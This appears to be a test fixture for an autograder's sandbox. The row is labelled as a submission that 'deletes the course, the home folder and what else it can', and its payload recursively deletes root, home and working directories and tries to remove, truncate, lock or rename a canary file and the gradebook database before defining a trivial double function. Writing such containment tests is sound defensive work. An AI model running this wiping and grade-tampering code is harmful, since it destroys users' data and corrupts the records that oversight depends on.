# row: 15
# says: deletes the course, the home folder and what else it can
# marks: rest full
# status: graded | graded with warnings
# holds: warm cold landlock

# %% double
import os
import shutil

for place in ("@ROOT@", "@DROP@", "@HOME@", os.getcwd()):
    shutil.rmtree(place, ignore_errors=True)
for path in ("@CANARY@", "@ROOT@/grading/gradebook.db"):
    for change in (os.remove, lambda one: os.truncate(one, 0), lambda one: os.chmod(one, 0), lambda one: os.rename(one, one + "_planted")):
        try:
            change(path)
        except OSError:
            pass


def double(x):
    return 2 * x
